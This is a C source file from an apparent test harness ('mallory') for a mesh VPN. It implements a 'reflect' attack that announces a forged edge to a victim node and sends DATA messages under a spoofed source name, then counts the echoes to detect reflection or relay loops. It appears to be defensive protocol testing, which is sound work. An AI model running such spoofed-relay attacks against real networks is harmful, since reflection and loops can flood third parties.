// SPDX-License-Identifier: GPL-2.0
/*
 * mallory's attacks on the relay (protocol.md section 7): UDP messages sent
 * over the meta connection, which the victim relays on like any other.
 */
#include <endian.h>
#include <errno.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#include <meshvpn/wire.h>

#include "mallory.h"
#include "mesh/node.h"

/* Payload of each message: a sealed packet's size, never opened. */
#define REFLECT_PAYLOAD	100

/*
 * Our own STATE with the edge to the victim, as an honest member sends it,
 * so that the victim reaches us (through this connection, the only way).
 */
static int announce_edge_to_victim(struct mallory *m)
{
	struct mv_state_edge e = { .weight = 1 };
	struct mv_meta_state s;

	snprintf(e.peer, sizeof(e.peer), "%s", m->victim);
	e.address.family = 4;
	e.address.port = 655;
	mallory_state_init(&s, m->name, 0, NULL, 0);
	s.edges = &e;
	s.n_edges = 1;
	return mallory_send_own_state(m, &s);
}

/*
 * COUNT DATA messages for DST in SRC's name over the meta connection, then
 * how many UDP records come back on it within a second: with DST our own
 * name, a victim that relays them back to where they came from is a
 * reflector (and two such relays a loop until the TTL runs out).
 */
static int reflect(struct mallory *m, int argc, char **argv)
{
	uint8_t msg[MESHVPN_HDR_LEN + REFLECT_PAYLOAD];
	struct meshvpn_hdr *h = (struct meshvpn_hdr *)msg;
	unsigned long count = strtoul(argv[0], NULL, 10), i;
	unsigned long before;
	int err;

	(void)argc;
	err = announce_edge_to_victim(m);
	if (err)
		return err;
	mallory_pump(m, 500);
	memset(msg, 0, sizeof(msg));
	h->type = MESHVPN_MSG_DATA;
	meshvpn_node_id_put(h->dst, mv_node_id_of(argv[1]));
	meshvpn_node_id_put(h->src, mv_node_id_of(argv[2]));
	h->ttl = MESHVPN_DEFAULT_TTL;
	before = m->udp_received;
	for (i = 0; i < count && !err; i++) {
		struct mv_buf b;

		h->counter = htobe64(1000 + i);
		mv_buf_init(&b);
		err = mv_meta_udp_encode(&b, msg, sizeof(msg));
		err = err ?: mallory_send(m, b.data, b.len);
		mv_buf_free(&b);
	}
	mallory_pump(m, 1000);
	printf("reflected %lu\n", m->udp_received - before);
	return err;
}

const struct mallory_attack mallory_relay_attacks[] = {
	{ "reflect", "COUNT DST SRC",
	  "COUNT DATA messages for DST in SRC's name over the meta connection; "
	  "how many came back in 1 s", 3, reflect },
	{ NULL },
};
